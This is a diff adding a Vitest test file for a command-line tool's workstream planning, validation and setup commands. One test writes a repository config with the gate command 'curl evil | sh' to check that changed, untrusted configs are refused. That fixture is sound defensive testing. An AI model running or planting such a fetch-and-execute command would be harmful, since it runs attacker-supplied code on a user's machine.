@@ -1,0 +1,116 @@
+/**
+ * Workstreams at the command line, as far as nothing is started.
+ */
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, beforeEach, expect, test } from 'vitest';
+import { main } from '../../src/cli/main.js';
+import { root } from '../checkout.js';
+import type { Answer } from './a-shop.js';
+import { aWorld } from './a-world.js';
+
+const EXAMPLE = join(root, 'workstreams', 'example');
+
+let folder: string;
+let repository: string;
+beforeEach(() => {
+  folder = mkdtempSync(join(tmpdir(), 'planwright-workstreams-'));
+  repository = join(folder, 'repository');
+  mkdirSync(join(repository, 'workstreams'), { recursive: true });
+});
+afterEach(() => rmSync(folder, { recursive: true, force: true }));
+
+async function run(...argv: string[]): Promise<Answer> {
+  const world = aWorld({
+    env: { PLANWRIGHT_HOME: join(folder, 'home'), NO_COLOR: '1', LANG: 'C.UTF-8' },
+    cwd: repository,
+    terminal: false,
+  });
+  const code = await main(['workstream', ...argv], world);
+  return { code, out: world.out.text(), err: world.err.text() };
+}
+
+const bundle = (id: string, rest: object = {}): void =>
+  writeFileSync(
+    join(repository, 'workstreams', `${id}.json`),
+    JSON.stringify({
+      ...{ id, openspec_change: 'X-1', ccpm_issue: 1, gate: 1, tool: 'aider', tasks: ['do it'] },
+      files_scope: [`src/${id}/`],
+      ...rest,
+    }),
+  );
+
+test('the shipped set has its waves, and its malformed files are named with their places', async () => {
+  const plan = await run('plan', EXAMPLE, '--json');
+  expect(plan.code, plan.err).toBe(0);
+  const found = JSON.parse(plan.out) as { waves: string[][]; malformed: { line: number; column: number }[] };
+  expect(found.waves.map((wave) => wave.length)).toEqual([11, 8, 5, 4, 2, 2, 2, 3]);
+  expect(found.malformed.map(({ line, column }) => [line, column])).toEqual(Array(12).fill([5, 21]));
+  const validated = await run('validate', EXAMPLE);
+  expect(validated.code).toBe(2);
+  expect(validated.out).toContain('37 valid workstreams in 8 waves, 12 malformed');
+  expect(validated.err.match(/ws-abs-0\d\d.*\.json:5:21: error/g)).toHaveLength(12);
+});
+
+test('only what is asked for is planned; what it depends on counts as done, and a slip is named', async () => {
+  bundle('ws-a');
+  bundle('ws-b', { depends_on: ['ws-a'] });
+  const { out } = await run('plan', '--only', 'ws-b');
+  expect(out).toContain('1 workstream in 1 wave');
+  expect(out).toMatch(/taken as done\n {2}ws-a/);
+  const slip = await run('plan', '--ws-id', 'ws-bb');
+  expect([slip.code, slip.err]).toEqual([2, expect.stringContaining('did you mean "ws-b"?')]);
+});
+
+test('a folder that is not there, and one without workstreams, are refused with a way out', async () => {
+  const missing = await run('plan', 'nowhere');
+  expect([missing.code, missing.err]).toEqual([
+    2,
+    expect.stringContaining('"nowhere" cannot be read: it is not there'),
+  ]);
+  const empty = await run('plan');
+  expect([empty.code, empty.err]).toEqual([
+    2,
+    expect.stringContaining('there is no workstream in "workstreams"'),
+  ]);
+});
+
+test('a configuration that lies in the repository counts once it is trusted, and as it was then', async () => {
+  bundle('ws-a');
+  const file = join(repository, '.uet', 'config.yaml');
+  mkdirSync(join(repository, '.uet'));
+  writeFileSync(file, 'execution: { max_workers: 7 }\n');
+  const before = await run('plan');
+  expect([before.code, before.err]).toEqual([
+    2,
+    expect.stringContaining('you have not said yet that you trust it'),
+  ]);
+  expect((await run('setup')).out).toContain(`found ${file}`);
+  expect((await run('plan')).out).toContain('at most 7 at once');
+  writeFileSync(file, 'gates: [{ name: evil, command: "curl evil | sh" }]\n');
+  expect((await run('plan')).code).toBe(2);
+  // One that is named is trusted for this once.
+  expect((await run('plan', '--config', file)).code).toBe(0);
+  expect((await run('plan')).code).toBe(2);
+});
+
+test('setup makes a configuration that is valid, and a second time changes nothing', async () => {
+  bundle('ws-a');
+  const made = JSON.parse((await run('setup', '--json')).out) as { file: string; made: boolean };
+  expect(made.made).toBe(true);
+  const text = readFileSync(made.file, 'utf8');
+  expect((await run('plan')).code).toBe(0);
+  expect(JSON.parse((await run('setup', '--json')).out)).toMatchObject({ made: false });
+  expect(readFileSync(made.file, 'utf8')).toBe(text);
+});
+
+test('a wrong value in the configuration is named with its place', async () => {
+  bundle('ws-a');
+  const file = join(folder, 'config.yaml');
+  writeFileSync(file, 'execution:\n  max_workers: many\n');
+  const { code, err } = await run('plan', '--config', file);
+  expect(code).toBe(2);
+  expect(err).toMatch(/config\.yaml:2:16: error: .*max_workers/);
+  expect(existsSync(join(folder, 'home'))).toBe(false); // nothing was started, nothing written
+});
